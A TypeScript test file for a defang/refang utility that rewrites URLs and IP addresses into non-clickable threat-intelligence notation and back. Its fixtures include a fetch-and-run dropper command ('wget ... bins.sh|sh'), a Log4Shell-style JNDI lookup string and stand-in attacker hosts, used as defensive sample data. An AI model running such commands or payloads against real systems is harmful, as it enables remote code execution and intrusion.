import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defang, refang } from './defang.ts';

const pairs = [
  ['http://198.51.100.7/x.sh', 'hxxp://198[.]51[.]100[.]7/x.sh'],
  [
    'cd /tmp; wget https://a.b.example:8080/bins.sh|sh',
    'cd /tmp; wget hxxps://a[.]b[.]example:8080/bins.sh|sh',
  ],
  ['ftp://u:p@198.51.100.7/a http://x.example', 'fxp://u:p@198[.]51[.]100[.]7/a hxxp://x[.]example'],
  ['x{jndi:ldap://198.51.100.7:1389/a}', 'x{jndi:ldap://198[.]51[.]100[.]7:1389/a}'],
] as const;

test('a URL is written so that nothing makes a link of it, and is found again', () => {
  for (const [plain, written] of pairs) {
    assert.equal(defang(plain), written);
    assert.equal(refang(written), plain);
    assert.equal(defang(written), written, 'once is enough');
  }
});

test('other text stays as it is', () => {
  for (const text of ['root', 'uname -a; cat /proc/cpuinfo', 'a.b.c', '198.51.100.7', '1.2 http'])
    assert.equal(defang(text), text);
});

test('what others write is read', () => {
  assert.equal(refang('198[.]51[.]100(.)7'), '198.51.100.7');
  assert.equal(refang('hxxp[:]//evil[.]example/a'), 'http://evil.example/a');
  assert.equal(refang('HXXPS[://]evil[.]example'), 'https://evil.example');
  assert.equal(refang('2001[:]db8::1'), '2001:db8::1');
});
